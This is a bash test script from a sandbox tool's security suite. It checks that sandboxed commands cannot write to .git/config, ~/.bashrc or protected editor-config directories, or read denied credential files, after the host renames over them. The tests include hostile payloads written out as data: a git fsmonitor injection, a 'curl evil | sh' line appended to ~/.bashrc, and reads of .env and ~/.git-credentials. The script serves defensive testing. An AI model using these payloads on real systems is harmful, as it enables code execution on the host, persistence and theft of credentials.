#!/bin/bash
# Escape class H1: protected and denied files the HOST replaces during the
# run. git config, sed -i, editors and credential helpers write a new file
# and rename it over the old one; the kernel then drops the sandbox's cover
# of the old one. After any such replacement the command must neither
# write the new file (.git/config, ~/.bashrc) nor read it (a denied .env,
# ~/.git-credentials), and a write that lands before srt covers it again
# is undone and reported. Also H2: .vscode and .claude directories that
# appear in directories made during the run are read-only. Every attempt
# asserts on host state (the files' content after the run).
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
git() { command git -c init.defaultBranch=main "$@"; }
command -v git >/dev/null 2>&1 || { skip_rest 14 "git missing"; echo "1..$_tap_n"; exit 0; }
cd "$P" && git init -q . || exit 1
S=$(fsjson s '{"denyRead":["~/.ssh","~/.aws","./.env","~/.git-credentials"],"allowWrite":[".","~"],"denyWrite":[]}')
# stop: the command's loops end when it appears (the host made it)
bg_wait() { local i; for i in $(seq 300); do kill -0 "$1" 2>/dev/null || return 0; sleep 0.1; done; echo "# srt did not end in 30 s: stopped"; kill "$1"; wait "$1"; }

# 1. the review's reproduction: a command that waits for git config's
# rename to append an fsmonitor, which git would run on the host
rm -f "$WORK/PWNED"
srt__bg -s "$S" -c 'touch started; while [ ! -e stop ]; do printf "[core]\n\tfsmonitor = \"touch '"$WORK"'/PWNED; false\"\n" >> .git/config 2>/dev/null && echo W >> wlog; done'
pid=$!
wait_for "$P/started" 100
git config user.email x@y
sleep 1; touch "$P/stop"; bg_wait "$pid"
git status >/dev/null 2>&1
attempt H1 "git config's rename over .git/config: no fsmonitor from the sandbox in it, nothing run" \
	sh -c "! grep -q fsmonitor '$P/.git/config' && test ! -e '$WORK/PWNED'"
# (a write the command made in the instant of the rename may land in the
# replaced file, which nobody reads any more: only what reaches the new
# file counts, and that is undone and reported)
attempt H1 "git config's rename: the host's change kept, or the write undone and reported" \
	sh -c "grep -q 'email = x@y' '$P/.git/config' || grep -q 'deny write .*\.git/config' '$WORK/bg.out'"
rm -f "$P/started" "$P/stop" "$P/wlog"

# 2. the race: 1,000 host renames over .git/config against a command
# appending in a loop; every write that succeeded is undone and reported.
# What the file may hold at the end is one of the host's own versions, byte
# for byte: one of the loop's, or the one from before the loop (kept as
# config.before), which srt puts back when it undoes every change of the
# loop. It does that, and reports it, when it never catches up with the
# loop: each rename then comes before srt has judged the one before, the
# command's writes into any file of that stream count against the newest
# (a host tool may have read the older file to write the newer one; see
# SECURITY.md, host changes in quick succession), and a queue that
# overflows meanwhile makes srt treat the name as written. A loaded machine
# did that to the sanitizer build once in a whole pass of the suite (no
# version of the loop left, and no write of the command), and a watcher
# held to 2 ms of every 12 through the loop does it about one run in ten.
# Usually srt keeps up and stops the run early in the loop, at the
# command's first write through a descriptor it opened before a cover; the
# renames after that show only that the host's last version stays.
cp "$P/.git/config" "$WORK/config.before"
# the file is one the host wrote: a version of the loop, or config.before
host_version() {
	local n
	n=$(sed -n '3s/^# host \([0-9]\{1,3\}\)$/\1/p' "$1")
	if [ -n "$n" ]; then
		printf '[core]\n\tbare = false\n# host %s\n' "$n" | cmp -s - "$1"
	else
		cmp -s "$WORK/config.before" "$1"
	fi
}
srt__bg -s "$S" -c 'touch started; while [ ! -e stop ]; do printf "PWN\n" >> .git/config 2>/dev/null && echo W >> wlog; done'
pid=$!
wait_for "$P/started" 100
# the watcher falls behind now and then, as on a loaded machine: held
# stopped a moment, three times, while the host goes on renaming (marks
# of its earlier re-covers then sit in its queue before its latest one)
(
	trap - EXIT
	w2=$(find_watcher "$pid")
	for i in 1 2 3; do
		sleep 0.4; [ -n "$w2" ] && kill -STOP "$w2" 2>/dev/null
		sleep 0.2; [ -n "$w2" ] && kill -CONT "$w2" 2>/dev/null
	done
) &
lagger=$!
# the host renames, and a host reader samples the file all along: what
# it ever saw of the command's writes must have been reported
"$PY" - "$P/.git" > "$WORK/seen" <<'PYEOF'
import os, sys, threading, time
d = sys.argv[1]
seen = [0]
done = threading.Event()
def reader():
    while not done.is_set():
        try:
            with open(os.path.join(d, "config")) as f:
                if "PWN" in f.read():
                    seen[0] += 1
        except OSError:
            pass
threading.Thread(target=reader, daemon=True).start()
for i in range(1000):
    t = os.path.join(d, "config.lock")
    with open(t, "w") as f:
        f.write("[core]\n\tbare = false\n# host %d\n" % i)
    os.rename(t, os.path.join(d, "config"))
    time.sleep(0.002)
time.sleep(0.5)
done.set()
print(seen[0])
PYEOF
wait "$lagger"
sleep 1; touch "$P/stop"; bg_wait "$pid"
nw=$(cat "$P/wlog" 2>/dev/null | wc -l); seen=$(cat "$WORK/seen")
reported=no; grep -q 'deny write .*\.git/config' "$WORK/bg.out" && reported=yes
kept=none; host_version "$P/.git/config" && kept=$(sed -n '3s/^# host //p' "$P/.git/config") && kept=${kept:-config.before}
attempt H1 "1,000 host renames against a writing loop: .git/config is a version the host wrote, no write from the sandbox in it ($nw writes succeeded; kept: $kept)" \
	sh -c "test '$kept' != none && { test '$kept' != config.before || test $reported = yes; }"
attempt H1 "1,000 host renames: every write the host saw ($seen samples) was reported" \
	sh -c "test '$seen' = 0 || test $reported = yes"
if test "$kept" = none || { test "$kept" = config.before && test $reported = no; } ||
	{ test "$seen" != 0 && test $reported = no; }; then
	# the evidence, kept: srt's output and what is left in the file
	echo "# load: $(cat /proc/loadavg)"
	grep -v 'Read-only file system' "$WORK/bg.out" | sed 's/^/# bg.out: /' | head -60
	grep -c PWN "$P/.git/config" | sed 's/^/# PWN lines left: /'
	head -5 "$P/.git/config" | sed 's/^/# .git\/config: /'
fi
rm -f "$P/started" "$P/stop" "$P/wlog"

# 3. ~/.bashrc when $HOME is a write root, replaced by sed -i
echo "# rc" > "$HOME/.bashrc"
srt__bg -s "$S" -c 'touch started; while [ ! -e stop ]; do echo "curl evil | sh" >> ~/.bashrc 2>/dev/null; sleep 0.01; done; echo "curl evil | sh" >> ~/.bashrc'
pid=$!
wait_for "$P/started" 100
sed -i 's/# rc/# rc edited/' "$HOME/.bashrc"
sleep 1; touch "$P/stop"; bg_wait "$pid"
attempt H1 "~/.bashrc replaced by sed -i: not writable from the sandbox afterwards" \
	sh -c "! grep -q evil '$HOME/.bashrc'"
rm -f "$P/started" "$P/stop"

# 4. denied files replaced on the host: not readable afterwards
echo "OLD-$CANARY" > "$P/.env"
echo "https://u:OLD@example.invalid" > "$HOME/.git-credentials"
srt__bg -s "$S" -c 'touch started; while [ ! -e go ]; do sleep 0.05; done; cat .env ~/.git-credentials; true'
pid=$!
wait_for "$P/started" 100
echo "NEW-SECRET-ENV" > "$P/.env.tmp" && mv "$P/.env.tmp" "$P/.env"
echo "https://u:NEW-SECRET-CRED@example.invalid" > "$HOME/.git-credentials.lock" &&
	mv "$HOME/.git-credentials.lock" "$HOME/.git-credentials"
sleep 0.5; touch "$P/go"; bg_wait "$pid"
attempt H1 "a denied .env replaced on the host stays unreadable" \
	sh -c "! grep -q NEW-SECRET-ENV '$WORK/bg.out'"
attempt H1 "a denied ~/.git-credentials replaced on the host stays unreadable" \
	sh -c "! grep -q NEW-SECRET-CRED '$WORK/bg.out'"
rm -f "$P/started" "$P/go"

# 5. H2: protected directories in directories made during the run (at
# the depths the mandatory denies cover: held by a directory at depth <=
# mandatoryDenySearchDepth-2, 1 by default), by the host and by the
# command itself
srt__bg -s "$S" -c 'touch started; mkdir mine m0; chmod 0 m0; sleep 1; mkdir mine/.vscode mine/.claude
	chmod 755 m0; sleep 0.5; mkdir m0/.vscode; sleep 1
	while [ ! -e go ]; do sleep 0.05; done
	echo "{\"tasks\":[]}" > host/.vscode/tasks.json; echo x > mine/.vscode/tasks.json
	echo "{}" > mine/.claude/settings.json; echo x > m0/.vscode/tasks.json; true'
pid=$!
wait_for "$P/started" 100
mkdir -p "$P/host/.vscode"
sleep 3; touch "$P/go"; bg_wait "$pid"
attempt H2 ".vscode made by the host in a new directory: not writable from the sandbox" \
	test ! -e "$P/host/.vscode/tasks.json"
attempt H2 ".vscode and .claude made by the command in its new directory: read-only once made" \
	sh -c "test ! -e '$P/mine/.vscode/tasks.json' && test ! -e '$P/mine/.claude/settings.json'"
attempt H2 ".vscode in a directory made with mode 0, opened later: read-only once made" \
	sh -c "test -d '$P/m0/.vscode' && test ! -e '$P/m0/.vscode/tasks.json'"

# 7. the watcher itself ending during the run (a crash: the sanitizer
# build once stopped it at its first fanotify event, and the run went on
# with nothing keeping the covers, so the command's fsmonitor reached
# .git/config): the command is stopped at once and the run fails
rm -f "$P/started" "$P/go" "$P/stop"
srt__bg -s "$S" -c 'touch started; i=0; while [ ! -e stop ]; do i=$((i+1)); echo $i > alive.t; mv alive.t alive; sleep 0.05; done'
pid=$!
wait_for "$P/started" 100
wpid=$(find_watcher "$pid")
if [ -n "$wpid" ]; then
	kill -SEGV "$wpid"
	# (a sanitizer build's watcher takes a while to die of it)
	for i in $(seq 300); do kill -0 "$wpid" 2>/dev/null || break; sleep 0.1; done
	sleep 1
	a1=$(cat "$P/alive" 2>/dev/null); sleep 1; a2=$(cat "$P/alive" 2>/dev/null)
	touch "$P/stop"; bg_wait "$pid"; wait "$pid"; rc=$?
	# (what it had not checked yet is reported as unchecked: the
	# command's write in the moment before the stop can remain)
	attempt H1 "the watcher killed during the run: the command stopped with it, its unchecked files reported (alive $a1 -> $a2, exit $rc)" \
		sh -c "test -n '$a1' && test '$a1' = '$a2' && test '$rc' != 0 && grep -q 'watcher .*ended during the run' '$WORK/bg.out' && grep -q '^srt:.*deny write watcher: the watcher of replaced files ended during the run' '$WORK/bg.out'"
else
	touch "$P/stop"; bg_wait "$pid"
	attempt H1 "the watcher killed during the run: found the watcher process" false
fi
rm -f "$P/started" "$P/stop" "$P/alive" "$P/alive.t"

# 8. a watcher far behind when the command ends (a loaded machine: the
# sanitizer build at a load of 20 to 30 was stopped 4.5 s after the end
# with a write of the command still in .git/config, reported only as
# "inspect them"). Here it is held stopped through the whole command and
# 6 s past its end while the host replaces .git/config and the command
# appends to the new file: the watcher's last pass, which srt waits for,
# must put the host's bytes back and name the file
printf '[core]\n\tbare = false\n' > "$P/.git/config"
srt__bg -s "$S" -c 'touch started; while [ ! -e go ]; do sleep 0.02; done; printf "PWN\n" >> .git/config && touch wrote; touch ended'
pid=$!
wait_for "$P/started" 100
wpid=$(find_watcher "$pid")
if [ -n "$wpid" ] && kill -STOP "$wpid"; then
	printf '[core]\n\tbare = false\n# host late\n' > "$P/.git/config.lock" && mv "$P/.git/config.lock" "$P/.git/config"
	touch "$P/go"; wait_for "$P/ended" 100
	sleep 6
	waited=no; kill -0 "$pid" 2>/dev/null && waited=yes
	kill -CONT "$wpid" 2>/dev/null
	bg_wait "$pid"
	attempt H1 "a watcher held stopped through the command and 6 s past its end: the command's write undone (srt waited: $waited)" \
		sh -c "test -e '$P/wrote' && ! grep -q PWN '$P/.git/config' && grep -q '^\[core\]' '$P/.git/config'"
	attempt H1 "a watcher held stopped through the command and 6 s past its end: the write reported by name" \
		grep -q 'deny write .*\.git/config' "$WORK/bg.out"
else
	touch "$P/go"; bg_wait "$pid"
	attempt H1 "a watcher stopped before it checked: found the watcher process" false
	skip "H1 a watcher stopped through the command: no watcher"
fi
if grep -q PWN "$P/.git/config" || ! grep -q 'deny write .*\.git/config' "$WORK/bg.out"; then
	echo "# load: $(cat /proc/loadavg)"
	sed 's/^/# bg.out: /' "$WORK/bg.out" | head -40
fi
rm -f "$P/started" "$P/go" "$P/ended" "$P/wrote"

# 6. linux-landlock has no cover to lose: its rules name inodes, and the
# new inode the host renames over a denied name has none (this held
# before the watcher; the line keeps it so)
LL=$BACKEND_LL
if [ -f "$LL" ]; then
	mkdir -p "$P/w"
	echo "OLD-$CANARY" > "$P/ll.env"
	SL=$(fsjson sl '{"denyRead":["~/.ssh","~/.aws","./ll.env"],"allowWrite":["./w"],"denyWrite":[]}')
	( trap - EXIT; exec "$SRT" --backend="$LL" -s "$SL" -c 'touch w/started; while [ ! -e w/go ]; do sleep 0.05; done; cat ll.env; true' >"$WORK/ll.out" 2>&1 </dev/null ) &
	pid=$!
	wait_for "$P/w/started" 100
	echo "NEW-SECRET-LL" > "$P/w/e.tmp" && mv "$P/w/e.tmp" "$P/ll.env"
	touch "$P/w/go"; bg_wait "$pid"
	attempt H1 "linux-landlock: a denied file replaced on the host stays unreadable" \
		sh -c "test -e '$P/w/go' && grep -q 'Permission denied' '$WORK/ll.out' && ! grep -q NEW-SECRET-LL '$WORK/ll.out'"
else
	skip "linux-landlock module not built"
fi
echo "1..$_tap_n"
